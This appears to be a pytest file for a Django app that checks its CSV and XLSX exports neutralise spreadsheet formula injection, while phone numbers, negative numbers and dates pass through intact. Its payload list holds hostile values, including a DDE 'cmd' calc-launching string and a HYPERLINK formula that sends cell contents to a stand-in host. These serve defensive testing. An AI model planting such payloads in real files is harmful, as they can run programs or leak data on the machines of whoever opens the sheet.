"""Sheets that nobody can make reckon: sixty ways of trying, in both formats.

ASVS 1.2.10. A CSV is read as programs with other habits would read it.
"""

import csv
import datetime as dt
import re
from html import unescape
from io import BytesIO, StringIO
from itertools import product
from pathlib import Path
from zipfile import ZipFile

import pytest
from django.conf import settings

from people.adapters import SHEETS, Row, csv_of, sheet_of, xlsx_of

SIGNS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "|", "\uff1d", "\uff0b", "\uff0d")
FORMULAS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.no?"&A1)', "SUM(A1:A9)")
PAYLOADS = (
    *("".join(pair) for pair in product(SIGNS, FORMULAS)),
    *(f"Ola{between}={formula}" for between in ";,\t" for formula in FORMULAS),
)
AS_IT_IS = ("+47 32 00 11 22", "+4732001122", "-5", "-0,5", "-", "kr 50,-", "a, - b", "Per–Ola")
RECKONS = re.compile("['\"]?\\s*[=+@|\uff1d\uff0b\uff0d\uff20-]")


def cells_as_others_read(made: bytes) -> list[str]:
    """Every cell, by programs that take a semicolon, a comma or a tab for the end of one."""
    text = made.decode("utf-8-sig")
    return [
        cell
        for delimiter in (";", ",", "\t")
        for row in csv.reader(StringIO(text), delimiter=delimiter)
        for cell in row
    ]


def test_no_cell_of_any_sheet_is_a_formula() -> None:
    rows: list[Row] = [("Hode", "Dag"), *((text, dt.date(2026, 3, 4)) for text in PAYLOADS)]
    assert len(PAYLOADS) == 60

    cells = cells_as_others_read(csv_of(rows))
    assert [cell for cell in cells if cell.lstrip()[:1] in {*"=+-@|", *"\uff1d\uff0b\uff0d"}] == []
    assert "\0" not in "".join(cells)

    book = ZipFile(BytesIO(xlsx_of(rows, name="Uttrekk & mer")))
    assert book.testzip() is None
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet.lower()


@pytest.mark.parametrize("text", AS_IT_IS)
def test_telephone_numbers_negative_numbers_and_dashes_come_through(text: str) -> None:
    rows: list[Row] = [("Telefon",), (text,)]

    read = list(csv.reader(StringIO(csv_of(rows).decode("utf-8-sig")), delimiter=";"))
    assert read[1] == [text]
    words = ZipFile(BytesIO(xlsx_of(rows, name="A"))).read("xl/sharedStrings.xml").decode()
    assert text in unescape(words)


def test_what_is_typed_stays_what_it_is() -> None:
    moment = dt.datetime(2026, 3, 4, 23, 30, tzinfo=dt.UTC)  # past midnight in Oslo
    rows: list[Row] = [("Tall", "Dag", "Tid", "Tom"), (-5, dt.date(2026, 3, 4), moment, None)]

    read = list(csv.reader(StringIO(csv_of(rows).decode("utf-8-sig")), delimiter=";"))
    assert read[1] == ["-5", "04.03.2026", "05.03.2026 00:30", ""]
    sheet = ZipFile(BytesIO(xlsx_of(rows, name="A"))).read("xl/worksheets/sheet1.xml").decode()
    assert re.search(r'<c r="A2"><v>-5</v></c><c r="B2" s="\d"><v>46085</v></c>', sheet)
    assert re.search(r'<c r="C2" s="\d"><v>46086.02083333\d*</v></c>', sheet)
    odd: list[Row] = [("\x00\ud800<b>&", None)]
    words = ZipFile(BytesIO(xlsx_of(odd, name="A"))).read("xl/sharedStrings.xml").decode()
    assert ">&lt;b&gt;&amp;</t>" in words
    assert all(sheet_of(kind, rows, name="A") == sheet_of(kind, rows, name="A") for kind in SHEETS)


def test_sheets_are_written_in_one_place() -> None:
    """So that what is proved here holds for every list that is taken out."""
    root = Path(settings.BASE_DIR)
    writers = [
        str(path.relative_to(root))
        for app in (*settings.HOUSE, "tildeling")
        for path in (root / app).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)|import xlsxwriter|Workbook\(", path.read_text())
    ]
    assert writers == ["people/adapters/sheets.py"]
